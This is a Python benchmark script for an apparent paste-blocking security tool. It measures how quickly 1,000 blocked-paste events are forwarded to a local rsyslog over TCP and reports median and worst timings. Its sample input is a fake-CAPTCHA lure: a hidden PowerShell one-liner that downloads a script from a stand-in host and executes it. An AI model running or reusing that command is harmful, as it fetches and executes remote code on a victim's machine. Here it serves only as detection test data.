"""Forwarding: 1,000 events from the event store's outbox to a real local rsyslog over TCP."""

from __future__ import annotations

import statistics
import tempfile
import time
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from bench.engine import engine
from bench.report import BenchError, Result, met, table

EVENTS = 1000
RUNS = 3
TARGET_S = 2.0
LURE = (
    'powershell -w hidden -c "iwr https://evil.test/a.ps1 | iex"'
    " # I am not a robot - Verification ID: 4821"
)


def _one_run(folder: Path) -> tuple[float, float, float, int]:
    """(format s, forwarder s, until written s, bytes) for EVENTS events in a fresh store."""
    from app.detection.model import Context, PasteTarget
    from app.events import Event, EventKind
    from app.forwarding.forwarder import Forwarder
    from app.forwarding.syslog import SyslogSink, format_message
    from app.storage import EventStore
    from tests.app.forwarding.rsyslog import Rsyslog

    verdict = engine().analyze(
        LURE, Context(source="https://captcha.evil.test/", target=PasteTarget.RUN_DIALOG)
    )
    template = Event.from_verdict(EventKind.PASTE_BLOCKED, verdict, LURE, action="blocked")
    collector = Rsyslog(folder / "rsyslog")
    collector.start()
    store = EventStore.open(folder / "data", sinks=["syslog"], verify=False)
    sink = SyslogSink(f"tcp://127.0.0.1:{collector.port}")
    forwarder = Forwarder(store, {"syslog": sink})
    try:
        ids: set[int] = set()
        for n in range(EVENTS):
            event_id = store.append(
                replace(template, time=template.time + timedelta(microseconds=n))
            )
            if event_id is None:
                raise BenchError(f"the event store did not take an event: {store.status()}")
            ids.add(event_id)
        started = time.perf_counter()
        size = sum(len(format_message(template.with_id(i))) for i in ids)
        formatted = time.perf_counter() - started

        started = time.perf_counter()
        while store.outbox_size("syslog"):
            if not forwarder.run_once()["syslog"]:
                raise BenchError(f"delivery failed: {forwarder.status()['syslog'].last_error}")
        sent = time.perf_counter() - started
        received = collector.wait_for_ids(ids, timeout=30)
        written = time.perf_counter() - started
        if set(received) != ids:
            raise BenchError(f"rsyslog wrote {len(set(received))} of {EVENTS} events")
        return formatted, sent, written, size
    finally:
        forwarder.close()
        store.close()
        collector.stop()


def run() -> list[Result]:
    from tests.app.forwarding.rsyslog import rsyslogd

    if rsyslogd() is None:
        raise BenchError("rsyslogd not found: install Debian's rsyslog package (make sysdeps)")
    runs = []
    for n in range(RUNS):
        with tempfile.TemporaryDirectory(prefix="pasteguard-bench-forward-") as folder:
            runs.append(_one_run(Path(folder) / str(n)))
    formatted = statistics.median(r[0] for r in runs)
    sent = statistics.median(r[1] for r in runs)
    written = [r[2] for r in runs]
    worst = max(written)
    size = runs[0][3] / EVENTS
    rows = [
        [
            f"{EVENTS} events, outbox → rsyslog (imtcp → omfile)",
            f"≤ {TARGET_S:.0f} s",
            f"{statistics.median(written):.3f} s",
            f"{worst:.3f} s",
            f"{EVENTS / statistics.median(written):,.0f}/s",
            met(worst <= TARGET_S),
        ],
    ]
    notes = [
        f"Median and worst of {RUNS} runs, each with a fresh event store and a freshly started "
        "rsyslogd on a loopback port (start-up not timed). Timed from the first forwarder round "
        "until rsyslog had written every event to its file; the forwarder's rounds alone took "
        f"{sent:.3f} s (median). Building the {EVENTS} RFC 5424 messages (ECS JSON) alone "
        f"takes {formatted:.3f} s; {size:,.0f} bytes per message.",
        "Default forwarder settings (batches of 500, octet-counted TCP, one connection).",
    ]
    headers = ["what", "target", "median", "worst", "rate", "met?"]
    return [Result("Forwarding: delivery to rsyslog", table(headers, rows, "llrrrc"), notes)]
